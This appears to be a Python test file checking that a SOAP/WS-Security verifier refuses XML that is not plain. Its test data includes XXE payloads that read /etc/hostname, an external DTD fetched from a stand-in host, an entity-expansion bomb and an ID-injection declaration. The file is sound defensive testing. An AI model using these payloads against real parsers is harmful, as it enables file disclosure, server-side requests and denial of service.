"""What is no plain XML is not believed, and breaks nothing."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from nrm_shared.wssecurity.names import SOAP11, SOAP12
from nrm_shared.wssecurity.refusal import NotBelieved

from .parts import QUESTION, body_of, reason, signed


def test_a_comment_in_a_value_is_refused_although_the_signature_holds() -> None:
    root = signed("12345")
    number = body_of(root)[0][0]
    number.text = "12"
    comment = etree.Comment(" ")
    comment.tail = "345"
    number.append(comment)
    assert reason(etree.tostring(root)) == "not-plain"


def test_processing_instructions_are_refused_wherever_they_stand() -> None:
    content = etree.tostring(signed())
    assert reason(b"<?evil x?>" + content) == "not-plain"
    assert reason(content + b"<!-- behind -->") == "not-plain"
    root = signed()
    body_of(root)[0].append(etree.PI("evil"))
    assert reason(etree.tostring(root)) == "not-plain"


@pytest.mark.parametrize(
    "prolog",
    [
        b"<!DOCTYPE x>",
        b'<!DOCTYPE x SYSTEM "file:///etc/hostname">',
        b'<!DOCTYPE x [<!ENTITY a "b">]>',
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>',
        b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>',
        b'<!DOCTYPE x [<!ATTLIST Body Id ID "evil">]>',
    ],
)
def test_document_types_and_entities_are_refused(prolog: bytes) -> None:
    assert reason(prolog + etree.tostring(signed())) == "not-plain"


def test_an_entity_in_a_value_is_never_opened() -> None:
    secret = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
    content = etree.tostring(signed()).replace(b">123<", b">&a;<")
    assert reason(secret + content) == "not-plain"
    assert reason(content) == "not-xml"


def test_what_is_huge_deep_or_no_xml_is_refused() -> None:
    assert reason(b"<a>" + b" " * 300_000 + b"</a>") == "too-large"
    assert reason(b"<a>" * 100 + b"</a>" * 100) == "not-plain"
    assert reason(b"<a>" * 5_000 + b"</a>" * 5_000) in {"not-plain", "not-xml"}
    for content in (b"", b"\x00", b"<a>", b"{}", "<a>ü</a>".encode("latin-1")):
        assert reason(content) == "not-xml"


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=400))
def test_whatever_comes_is_refused_with_a_word_and_never_breaks(content: bytes) -> None:
    assert reason(content) in NotBelieved.REASONS


def test_a_namespace_that_cannot_be_canonicalised_is_refused() -> None:
    content = etree.tostring(signed()).replace(SOAP11.encode(), b"relative/" + SOAP11[7:].encode())
    root = etree.tostring(signed()).replace(b"urn:fictional:question", b"relative")
    assert reason(content) == "envelope"
    assert reason(root) == "not-plain"


def test_another_soap_version_or_another_root_is_refused() -> None:
    root = etree.tostring(signed()).replace(SOAP11.encode(), SOAP12.encode())
    assert reason(root) == "envelope"
    other = signed()
    other.tag = "{urn:other}Envelope"
    assert reason(etree.tostring(other)) == "envelope"
    assert reason(f"<x xmlns='{QUESTION}'/>".encode()) == "envelope"
